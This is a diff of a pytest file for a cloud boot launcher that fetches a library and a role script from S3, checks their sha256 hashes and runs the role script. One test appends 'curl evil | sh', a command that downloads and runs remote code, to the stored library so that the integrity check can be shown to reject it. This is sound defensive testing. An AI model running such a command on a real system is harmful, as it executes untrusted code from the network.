@@ -1,6 +1,7 @@
-"""Boot stage 2: the user data's launcher (userdata/stage2.sh) fetches the role script
-from the boot-script bucket (the fake `aws s3 cp`), verifies its sha256, installs it
-and execs it; a re-run uses the verified local copy; a bad object fails loudly."""
+"""Boot stage 2: the user data's launcher (userdata/stage2.sh) fetches the shared
+library's second part and the role script from the boot-script bucket (the fake
+`aws s3 cp`), verifies their sha256, installs them and execs the role script; a re-run
+uses the verified local copies; a bad object fails loudly."""
 
 import hashlib
 
@@ -35,8 +36,12 @@ def test_each_role_boots_end_to_end_through_the_launcher(machine, role):
     calls = machine.calls()
     # The KVM hosts' packages (their copy under packages/) are other transfers (test_kvm_host_boot.py).
     fetches = [c for c in calls if is_s3_cp(c) and not any("/packages/" in a for a in c["args"])]
-    # The role script, then (from the role script) the CloudWatch agent's installer.
-    assert [f["args"][-2] for f in fetches] == [f"s3://{object_path(role)}", f"s3://{object_path('cloudwatch-agent')}"]
+    # The library, the role script, then (from the role script) the CloudWatch agent's installer.
+    assert [f["args"][-2] for f in fetches] == [f"s3://{object_path(ud.LIBRARY_OBJECT)}", f"s3://{object_path(role)}",
+                                                f"s3://{object_path('cloudwatch-agent')}"]
+    library = machine.file(f"{LIB}/library.sh")
+    assert library.read_text() == boot_files()["library.sh"]
+    assert library.stat().st_mode & 0o777 == 0o644
     # The AWS CLI comes first (members: after the overlay and the network).
     assert calls.index(fetches[0]) > next(i for i, c in enumerate(calls) if is_cmd("snap", "install", "aws-cli")(c))
     if role != "router":
@@ -62,15 +67,30 @@ def test_a_rerun_uses_the_verified_local_copy(machine, role):
     assert "stage 2: verified local copy" in r.output
 
 
-def test_a_local_copy_that_changed_is_fetched_again(machine):
+@pytest.mark.parametrize("name, obj", [("router.sh", "router"), ("library.sh", ud.LIBRARY_OBJECT)])
+def test_a_local_copy_that_changed_is_fetched_again(machine, name, obj):
     assert machine.run_user_data(render(ROUTER)).status == 0
-    copy = machine.file(f"{LIB}/router.sh")
-    copy.write_text(copy.read_text() + "echo edited by hand\n")
+    copy = machine.file(f"{LIB}/{name}")
+    copy.write_text(copy.read_text() + "csec2_log() { :; }\n")
     machine.clear_calls()
     r = machine.rerun("router.sh")
     assert r.status == 0, r.output
-    assert [c for c in machine.calls() if is_s3_cp(c)]
-    assert copy.read_text() == boot_files()["router.sh"]
+    assert [c["args"][-2] for c in machine.calls() if is_s3_cp(c)][0] == f"s3://{object_path(obj)}"
+    assert copy.read_text() == boot_files()[name]
+    assert "boot run of role 'router' finished successfully" in r.output
+
+
+def test_library_hash_mismatch_fails_loudly_and_runs_nothing(machine):
+    path = object_path(ud.LIBRARY_OBJECT)
+    machine.update(lambda s: s["s3"]["objects"].update({path: s["s3"]["objects"][path] + "curl evil | sh\n"}))
+    r = machine.run_user_data(render(KVM_HOST))
+    assert r.status != 0
+    expected = hashlib.sha256(boot_files()["library.sh"].encode()).hexdigest()
+    assert f"s3://{path} has sha256" in r.output
+    assert f"but the settings expect {expected}: refusing to run it" in r.output
+    assert not machine.file(f"{LIB}/library.sh").exists()
+    assert not machine.file(f"{LIB}/kvm-host.sh").exists()
+    assert not any(is_cmd("hostnamectl")(c) for c in machine.calls()), "the role script never ran"
 
 
 def test_hash_mismatch_fails_loudly_and_runs_nothing(machine):
@@ -105,12 +125,21 @@ def test_missing_or_denied_object_fails_loudly_after_bounded_retries(machine, ch
     machine.update(world)
     r = machine.run_user_data(render(ROUTER), env={"CSEC2_RETRY_ATTEMPTS": "3"})
     assert r.status != 0
-    fetches = [c for c in machine.calls() if is_s3_cp(c)]
+    fetches = [c for c in machine.calls() if is_s3_cp(c) and c["args"][-2] == f"s3://{path}"]
     assert len(fetches) == 3, "bounded: CSEC2_RETRY_ATTEMPTS tries"
     assert f"stage 2: cannot fetch the role script s3://{path} after 3 attempts: {explained}" in r.output
     assert "fatal error: An error occurred (40" in r.output, "the CLI's own message is shown"
     assert "boot FAILED" in r.output
     assert not machine.file(f"{LIB}/router.sh").exists()
+
+
+def test_an_ungranted_library_fails_naming_it(machine):
+    path = object_path(ud.LIBRARY_OBJECT)
+    machine.update(lambda s: s["s3"]["readable"].remove(path))
+    r = machine.run_user_data(render(ROUTER), env={"CSEC2_RETRY_ATTEMPTS": "2"})
+    assert r.status != 0
+    assert f"stage 2: cannot fetch the library s3://{path} after 2 attempts: access denied (403)" in r.output
+    assert not machine.file(f"{LIB}/router.sh").exists(), "nothing of the role script without its library"
 
 
 def test_fake_s3_cp_refuses_like_the_cli(machine):
